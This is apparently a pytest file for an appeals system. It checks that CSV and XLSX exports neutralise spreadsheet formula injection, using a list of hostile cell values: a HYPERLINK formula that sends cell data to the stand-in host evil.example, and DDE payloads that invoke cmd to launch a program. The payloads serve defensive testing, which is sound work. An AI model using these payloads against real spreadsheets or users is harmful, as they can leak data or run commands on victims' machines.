"""Issue 13, finding 5: no cell of an export runs as a formula in a spreadsheet."""
import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from appeals.core.spreadsheets import csv_cell, csv_row, xlsx_row

HOSTILE = [
    "=1+HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "-2+3+cmd|' /C calc'!A0",
    "+7+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_neutralises_every_formula_trigger(value):
    assert csv_cell(value) == "'" + value


def test_csv_cell_leaves_plain_text_and_numbers_alone():
    assert csv_row(["Абай көшесі, 12", 42, None, "KRD-2024-00001"]) == ["Абай көшесі, 12", "42", "", "KRD-2024-00001"]


def test_xlsx_cells_are_strings_never_formulas():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(xlsx_row(sheet, [*HOSTILE, "plain", 7]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
    # The text itself is kept (the quote prefix is a style, not a character). A carriage return comes
    # back as itself or as a line feed: XML normalises line ends unless the writer escaped it, and
    # openpyxl writes differently with lxml installed (feedgen brings it) than without.
    for cell, value in zip(cells, HOSTILE):
        assert cell.value in (value, value.replace("\r", "\n"))
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:len(HOSTILE)])
    assert (cells[-2].data_type, cells[-2].quotePrefix, cells[-1].data_type) == ("s", False, "n")


def test_register_export_neutralises_citizen_text(app, client, login, users, reg_appeal):
    appeal = reg_appeal(applicant_name="+7+cmd|' /C calc'!A0", summary="=1+HYPERLINK(\"https://evil.example\")")
    other = reg_appeal(summary="-2+3+cmd|' /C calc'!A0")
    login(users.clerk)
    text = client.get("/appeals/export?format=csv").get_data(as_text=True)
    rows = {row[0]: row for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")}
    assert "'+7+cmd|' /C calc'!A0" in rows[appeal.number]
    assert "'=1+HYPERLINK(\"https://evil.example\")" in rows[appeal.number]
    assert "'-2+3+cmd|' /C calc'!A0" in rows[other.number]
    assert not any(cell[:1] in "=+-@\t\r" for row in rows.values() for cell in row if cell)

    data = client.get("/appeals/export?format=xlsx").data
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    hostile = [cell for cell in cells if cell.value[:1] in "=+-@"]
    assert {cell.value for cell in hostile} >= {"+7+cmd|' /C calc'!A0", "=1+HYPERLINK(\"https://evil.example\")",
                                                "-2+3+cmd|' /C calc'!A0"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
